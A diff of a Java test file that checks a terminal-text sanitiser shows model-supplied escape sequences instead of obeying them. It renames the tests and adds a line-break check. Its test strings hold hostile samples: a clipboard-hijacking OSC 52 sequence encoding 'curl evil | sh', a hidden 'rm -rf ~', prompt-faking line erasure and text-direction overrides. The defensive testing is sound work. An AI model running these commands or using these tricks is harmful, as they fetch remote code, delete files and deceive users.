@@ -8,7 +8,7 @@ class TerminalTextTest {
     private static final Style COLOUR = new Style(true);
 
     @Test
-    void escapeSequencesFromTheModelAreShownNotObeyed() {
+    void escape_sequences_from_the_model_are_shown_not_obeyed() {
         // OSC 52 sets the clipboard; ESC[8m conceals what follows; ESC[2K with \r erases the line to fake another.
         String hostile = "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 \u001b[8mhidden\u001b[28m rm -rf ~\r\u001b[2K$ ls";
 
@@ -19,7 +19,7 @@ class TerminalTextTest {
     }
 
     @Test
-    void cachetsOwnColoursPassAndNoOtherSequence() {
+    void cachets_own_colours_pass_and_no_other_sequence() {
         String coloured = COLOUR.red("error") + " " + COLOUR.bold(COLOUR.cyan("grep")) + COLOUR.dim("|") + COLOUR.green("+")
                 + COLOUR.yellow("!");
 
@@ -31,38 +31,44 @@ class TerminalTextTest {
     }
 
     @Test
-    void linesTabsAndWindowsLineEndsStayWhatTheyAre() {
+    void lines_tabs_and_windows_line_ends_stay_what_they_are() {
         assertThat(TerminalText.shown("a\tb\r\nc\nd")).isEqualTo("a\tb\nc\nd");
     }
 
     @Test
-    void controlsPastAsciiAndTextDirectionOverridesAreShown() {
+    void controls_past_ascii_and_text_direction_overrides_are_shown() {
         // U+009B is a one-character CSI on terminals that take C1 controls; U+202E reverses the text after it.
         assertThat(TerminalText.shown("\u009b8m \u202etxt.exe \u2066x\u2069 \u007f\b"))
                 .isEqualTo("\\u009b8m \\u202etxt.exe \\u2066x\\u2069 \\u007f\\u0008");
     }
 
     @Test
-    void textWithoutControlsIsTheSameString() {
+    void text_without_controls_is_the_same_string() {
         String plain = "naïve café — 日本語 ✓";
 
         assertThat(TerminalText.shown(plain)).isSameAs(plain);
     }
 
     @Test
-    void theModelsOwnTextShowsItsColoursSoItCannotFakeCachets() {
+    void the_models_own_text_shows_its_colours_so_it_cannot_fake_cachets() {
         assertThat(TerminalText.uncoloured("  > " + COLOUR.bold(COLOUR.cyan("run_command")) + " $ ls\n"))
                 .isEqualTo("  > \\u001b[1m\\u001b[36mrun_command\\u001b[0m\\u001b[0m $ ls\n");
     }
 
     @Test
-    void oneLineShowsLineBreaksAndPassesNoColour() {
+    void one_line_tells_a_line_break_from_a_backslash_and_an_n() {
+        assertThat(TerminalText.oneLine("echo safe\nrm -rf ~")).isEqualTo("echo safe\\nrm -rf ~");
+        assertThat(TerminalText.oneLine("echo 'safe\\nrm -rf ~'")).isEqualTo("echo 'safe\\\\nrm -rf ~'");
+    }
+
+    @Test
+    void one_line_shows_line_breaks_and_passes_no_colour() {
         assertThat(TerminalText.oneLine("ls\n\n" + COLOUR.red("x") + "\r\ncurl evil | sh"))
                 .isEqualTo("ls\\n\\n\\u001b[31mx\\u001b[0m\\r\\ncurl evil | sh");
     }
 
     @Test
-    void aWriterObeysACarriageReturnWrittenAloneAsStatusLinesWriteItAndShowsEveryOther() {
+    void a_writer_obeys_a_carriage_return_written_alone_as_status_lines_write_it_and_shows_every_other() {
         StringBuilder written = new StringBuilder();
         var writer = new java.io.PrintWriter(TerminalText.writer(new java.io.Writer() {
             @Override
